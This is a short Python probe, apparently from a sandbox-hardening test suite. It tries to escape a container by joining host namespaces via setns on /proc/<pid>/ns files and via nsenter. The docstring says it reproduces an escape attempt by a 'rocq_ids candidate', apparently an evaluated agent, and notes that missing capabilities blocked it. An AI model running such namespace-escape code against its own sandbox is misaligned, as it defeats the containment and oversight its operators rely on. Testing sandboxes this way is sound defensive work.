"""Join the host's namespaces (as the rocq_ids candidate did with `nsenter -t 10 -n`), by pid
and through /proc/<pid>/ns/*.

Stopped by: no capabilities (setns needs CAP_SYS_ADMIN), host pids not visible."""
import ctypes
import os
import shutil
import subprocess

print("TRIED")
libc = ctypes.CDLL(None, use_errno=True)
for pid in ("1", os.environ["KERNEL_PID"], "10"):
    for ns in ("net", "mnt", "pid", "user", "uts", "ipc", "cgroup"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{ns}", os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(fd, 0) == 0:
            print(f"ESCAPED: joined {ns} namespace of pid {pid}")
        os.close(fd)
nsenter = shutil.which("nsenter")
if nsenter:
    for pid in ("1", os.environ["KERNEL_PID"], "10"):
        done = subprocess.run([nsenter, "-t", pid, "-n", "-m", "cat", "/proc/1/cmdline"],
                              capture_output=True)
        if done.returncode == 0:
            print(f"ESCAPED: nsenter -t {pid} worked")
